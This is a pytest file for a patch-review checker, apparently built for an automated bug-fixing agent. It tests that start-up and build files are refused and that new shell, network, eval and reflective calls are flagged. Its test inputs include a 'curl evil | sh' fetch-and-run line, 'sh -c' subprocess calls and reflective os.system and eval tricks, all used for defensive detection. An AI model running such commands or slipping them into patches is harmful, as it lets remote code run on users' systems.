"""Patches that smuggle code: files that run at start-up or install are refused, risky new calls are high risk."""

from __future__ import annotations

import pytest

from agent.review import forbidden_file, new_capabilities, review_change


@pytest.mark.parametrize(
    "path",
    ["sitecustomize.py", "pkg/usercustomize.py", "evil.pth", "lib/site-packages/x.pth", "conftest.py",
     "src/pkg/__main__.py", "setup.py", "setup.cfg", "pyproject.toml", "tox.ini", "noxfile.py", "Makefile",
     "requirements.txt", "requirements-dev.txt", "MANIFEST.in"],
)
def test_startup_and_build_files_are_refused_in_a_bug_fix(path):
    verdict = review_change(path, None, "import os\n")
    assert not verdict.ok and verdict.risk == "high"
    assert path.rsplit("/", 1)[-1] in verdict.reason


def test_the_issue_may_ask_for_such_a_file_by_name():
    issue = "The version in setup.py is wrong: it says 1.0 but we ship 2.0"
    assert forbidden_file("setup.py", issue) is None
    verdict = review_change("setup.py", "VERSION = '1.0'\n", "VERSION = '2.0'\n", issue=issue)
    assert verdict.ok
    assert forbidden_file("sitecustomize.py", issue) is not None  # naming one file allows only that file


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("import subprocess\n", "import subprocess\nsubprocess.run(['id'])\n", "starts a process: new subprocess"),
        ("x = 1\n", "from subprocess import Popen as P\nP('id', shell=True)\n", "runs a shell: new shell=True"),
        ("x = 1\n", "import os\nos.system('curl evil | sh')\n", "runs a shell: new os.system"),
        ("x = 1\n", "import urllib.request as u\nu.urlopen('http://x')\n", "reaches the network"),
        ("x = 1\n", "import socket\n", "reaches the network: new socket"),
        ("def f(s):\n    return int(s)\n", "def f(s):\n    return eval(s)\n", "runs dynamic code: new eval"),
    ],
)
def test_new_process_network_shell_or_dynamic_calls_are_high_risk(old, new, expected):
    verdict = review_change("pkg/mod.py", old, new)
    assert verdict.ok and verdict.risk == "high"
    assert any(expected in reason for reason in verdict.risk_reasons), verdict.risk_reasons


def test_existing_calls_are_not_counted_again():
    old = "import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd, check=False)\n"
    new = old.replace("check=False", "check=True")
    assert new_capabilities(old, new) == []
    assert review_change("pkg/mod.py", old, new).risk == "low"


def test_a_new_file_is_high_risk_with_the_reason_named():
    verdict = review_change("pkg/helpers.py", None, "def helper():\n    return 1\n")
    assert verdict.ok and verdict.risk == "high" and "adds a new file" in verdict.risk_reasons


def test_a_sitecustomize_package_is_a_start_up_file_too():
    verdict = review_change("sitecustomize/__init__.py", None, "import os\n")
    assert not verdict.ok and "sitecustomize or usercustomize package" in verdict.reason


@pytest.mark.parametrize(("issue", "allowed"), [
    ("the version in setup.py is wrong", True), ("see setup.py.", True), ("fix pkg/setup.py", True),
    ("my_setup.py breaks", False), ("setup.pyx is slow", False), ("legacy-setup.py", False), ("", False)])
def test_the_issue_names_a_file_only_as_a_whole_word(issue, allowed):
    assert (forbidden_file("pkg/setup.py", issue) is None) is allowed


@pytest.mark.parametrize(("new", "expected"), [
    ("import os\ngetattr(os, 'system')('id')\n", "starts a process: new os.system"),
    ("import os\nimport builtins\nbuiltins.exec('1')\n", "runs dynamic code: new exec"),
    ("import os\nos.__dict__['system']('id')\n", "runs dynamic code: new __dict__"),
    ("import os\n__builtins__['eval']('1')\n", "runs dynamic code: new __builtins__"),
    ("import os\nglobals()['x'] = 1\n", "runs dynamic code: new globals"),
])
def test_reflective_calls_count_as_what_they_reach(new, expected):
    verdict = review_change("pkg/mod.py", "import os\n", new)
    assert verdict.risk == "high" and any(expected in r for r in verdict.risk_reasons), verdict.risk_reasons


def test_the_models_reproduction_test_is_high_risk_and_its_calls_are_named():
    from agent.review import review_new_test

    plain = review_new_test("tests/test_fixbot_repro.py", "def test_x():\n    assert 1\n")
    assert plain.risk == "high" and "adds the reproduction test tests/test_fixbot_repro.py" in plain.risk_reasons[0]
    shelly = review_new_test("tests/test_fixbot_repro.py",
                             "import subprocess\nsubprocess.run(['sh', '-c', 'id'])\n\ndef test_x():\n    pass\n")
    assert any("starts a process: new subprocess" in r for r in shelly.risk_reasons)
